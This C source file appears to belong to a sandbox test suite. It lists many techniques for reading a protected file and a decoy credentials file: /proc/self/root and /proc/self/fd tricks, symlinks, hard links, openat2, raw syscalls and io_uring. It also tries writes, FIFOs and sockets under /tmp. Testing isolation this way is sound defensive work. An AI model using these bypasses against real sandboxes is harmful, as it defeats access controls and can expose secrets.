// Ways to the bytes of a file that is protected: the function's source code, or a decoy.
#include "attack.h"

#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>

#define SOURCE "/var/task/protected.txt"
#define DECOY "/opt/decoys/credentials"

static void say_descriptor(int descriptor) {
  char text[512];
  ssize_t count = descriptor < 0 ? -1 : read(descriptor, text, sizeof text);
  if (count > 0)
    say_bytes(text, (size_t)count);
  else
    say("nothing read: %s\n", strerror(errno));
  if (descriptor >= 0)
    close(descriptor);
}

static void by_open(const char *path) { say_descriptor(open(path, O_RDONLY)); }
static void by_openat(const char *path) { say_descriptor(openat(AT_FDCWD, path, O_RDONLY)); }
static void by_syscall_function(const char *path) {
  say_descriptor((int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY));
}

static void by_inline_syscall(const char *path) {
  say_descriptor((int)inline_syscall(SYS_openat, AT_FDCWD, (long)path, O_RDONLY, 0, 0, 0));
}

static void by_fopen(const char *path) {
  char text[512];
  FILE *file = fopen(path, "r");
  if (file == NULL)
    return;
  while (fgets(text, sizeof text, file) != NULL)
    say("%s", text);
  fclose(file);
}

static void by_freopen(const char *path) {
  char text[512];
  FILE *file = fopen("/dev/null", "r");
  FILE *again = file == NULL ? NULL : freopen(path, "r", file);
  while (again != NULL && fgets(text, sizeof text, again) != NULL)
    say("%s", text);
  if (again != NULL)
    fclose(again);
}

static void by_symlink(const char *path) {
  symlink(path, "/tmp/link");
  by_open("/tmp/link");
}

static void by_process_root(const char *path) {
  char other[256];
  snprintf(other, sizeof other, "/proc/self/root%s", path);
  by_open(other);
}

static void by_dot_segments(const char *path) {
  char other[256];
  snprintf(other, sizeof other, "/tmp/..//.%s", path);
  by_open(other);
}

static void by_directory_descriptor(const char *path) {
  const char *name = strrchr(path, '/') + 1;
  char folder[256];
  snprintf(folder, sizeof folder, "%.*s", (int)(name - path), path);
  int directory = open(folder, O_PATH | O_DIRECTORY);
  say_descriptor(openat(directory, name, O_RDONLY));
  if (directory >= 0)
    close(directory);
}

// A descriptor that can only name the file is opened again through /proc.
static void by_reopening(const char *path) {
  char other[64];
  int handle = open(path, O_PATH);
  snprintf(other, sizeof other, "/proc/self/fd/%d", handle);
  by_open(other);
  if (handle >= 0)
    close(handle);
}

static void by_openat2(const char *path) {
  uint64_t how[3] = {O_RDONLY, 0, 0};
  say_descriptor((int)syscall(SYS_openat2, AT_FDCWD, path, how, sizeof how));
}

static void by_mapping(const char *path) {
  struct stat about;
  int file = open(path, O_RDONLY);
  if (file < 0 || fstat(file, &about) != 0)
    return;
  char *text = mmap(NULL, (size_t)about.st_size, PROT_READ, MAP_PRIVATE, file, 0);
  if (text != MAP_FAILED)
    say_bytes(text, (size_t)about.st_size);
  close(file);
}

static void by_hard_link(const char *path) {
  if (link(path, "/var/task/copy") != 0 && link(path, "/tmp/copy") != 0)
    say("link: %s\n", strerror(errno));
  by_open("/tmp/copy");
}

struct ring {
  int descriptor;
  struct io_uring_params parameters;
  char *submission, *completion;
  struct io_uring_sqe *entries;
};

static int open_ring(struct ring *ring) {
  memset(ring, 0, sizeof *ring);
  ring->descriptor = (int)inline_syscall(SYS_io_uring_setup, 4, (long)&ring->parameters, 0, 0, 0, 0);
  if (ring->descriptor < 0)
    return -1;
  struct io_uring_params *have = &ring->parameters;
  size_t size = have->cq_off.cqes + have->cq_entries * sizeof(struct io_uring_cqe);
  int both = PROT_READ | PROT_WRITE, flags = MAP_SHARED | MAP_POPULATE;
  ring->submission = mmap(NULL, size + 4096, both, flags, ring->descriptor, IORING_OFF_SQ_RING);
  ring->completion = mmap(NULL, size, both, flags, ring->descriptor, IORING_OFF_CQ_RING);
  ring->entries = mmap(NULL, 4096, both, flags, ring->descriptor, IORING_OFF_SQES);
  return ring->submission == MAP_FAILED || ring->completion == MAP_FAILED || ring->entries == MAP_FAILED ? -1
                                                                                                         : 0;
}

// Hands one request to the kernel's worker and waits for its answer.
long ring_request(const struct io_uring_sqe *request) {
  struct ring ring;
  if (open_ring(&ring) != 0)
    return -ENOSYS;
  ring.entries[0] = *request;
  *(unsigned *)(ring.submission + ring.parameters.sq_off.array) = 0;
  __atomic_store_n((unsigned *)(ring.submission + ring.parameters.sq_off.tail), 1, __ATOMIC_RELEASE);
  long result = inline_syscall(SYS_io_uring_enter, ring.descriptor, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
  if (result == 1)
    result = ((struct io_uring_cqe *)(ring.completion + ring.parameters.cq_off.cqes))->res;
  close(ring.descriptor);
  return result;
}

static void by_ring(const char *path) {
  struct io_uring_sqe request = {
      .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)path, .open_flags = O_RDONLY};
  long descriptor = ring_request(&request);
  if (descriptor < 0)
    errno = (int)-descriptor;
  say_descriptor((int)descriptor);
}

static void by_sendfile(const char *path) {
  int ends[2], file = open(path, O_RDONLY);
  if (file < 0 || pipe(ends) != 0)
    return;
  if (sendfile(ends[1], file, NULL, 512) < 0)
    say("sendfile: %s\n", strerror(errno));
  close(ends[1]);
  say_descriptor(ends[0]);
  close(file);
}

#define FILE_ATTACK(way)                                                                                     \
  ATTACK(source_##way) { by_##way(SOURCE); }                                                                 \
  ATTACK(decoy_##way) { by_##way(DECOY); }

FILE_ATTACK(open)
FILE_ATTACK(openat)
FILE_ATTACK(openat2)
FILE_ATTACK(fopen)
FILE_ATTACK(freopen)
FILE_ATTACK(symlink)
FILE_ATTACK(process_root)
FILE_ATTACK(dot_segments)
FILE_ATTACK(directory_descriptor)
FILE_ATTACK(reopening)
FILE_ATTACK(mapping)
FILE_ATTACK(sendfile)
FILE_ATTACK(hard_link)
FILE_ATTACK(syscall_function)
FILE_ATTACK(inline_syscall)
FILE_ATTACK(ring)

static void write_all(int descriptor) {
  if (descriptor < 0 || write(descriptor, "written\n", 8) != 8)
    say("not written: %s\n", strerror(errno));
  if (descriptor >= 0)
    close(descriptor);
}

ATTACK(write_open) { write_all(open("/tmp/written", O_WRONLY | O_CREAT, 0644)); }
ATTACK(write_creat) { write_all(creat("/tmp/written", 0644)); }
ATTACK(write_openat) {
  write_all(openat(open("/tmp", O_PATH | O_DIRECTORY), "written", O_WRONLY | O_CREAT, 0644));
}
ATTACK(write_process_root) { write_all(open("/proc/self/root/tmp/written", O_WRONLY | O_CREAT, 0644)); }
ATTACK(write_inline) {
  write_all((int)inline_syscall(SYS_openat, AT_FDCWD, (long)"/tmp/written", O_WRONLY | O_CREAT, 0644, 0, 0));
}

ATTACK(write_fopen) {
  FILE *file = fopen("/tmp/written", "w");
  if (file != NULL)
    fclose(file);
}

ATTACK(write_fifo) {
  if (mkfifo("/tmp/written", 0644) != 0)
    say("mkfifo: %s\n", strerror(errno));
}

ATTACK(write_socket) {
  struct sockaddr_un address = {AF_UNIX, "/tmp/written"};
  int socket_ = socket(AF_UNIX, SOCK_DGRAM, 0);
  if (bind(socket_, (struct sockaddr *)&address, sizeof address) != 0)
    say("bind: %s\n", strerror(errno));
  close(socket_);
}

ATTACK(write_syscall_function) {
  write_all((int)syscall(SYS_openat, AT_FDCWD, "/tmp/written", O_WRONLY | O_CREAT, 0644));
}

ATTACK(write_unnamed_then_linked) {
  char path[64];
  int file = open("/tmp", O_TMPFILE | O_WRONLY, 0644);
  snprintf(path, sizeof path, "/proc/self/fd/%d", file);
  if (linkat(AT_FDCWD, path, AT_FDCWD, "/tmp/written", AT_SYMLINK_FOLLOW) != 0)
    say("linkat: %s\n", strerror(errno));
  if (file >= 0)
    close(file);
}

ATTACK(write_mkdir) {
  if (mkdir("/tmp/written", 0755) != 0)
    say("mkdir: %s\n", strerror(errno));
}

ATTACK(write_symlink) {
  if (symlink("/etc/passwd", "/tmp/written") != 0)
    say("symlink: %s\n", strerror(errno));
}
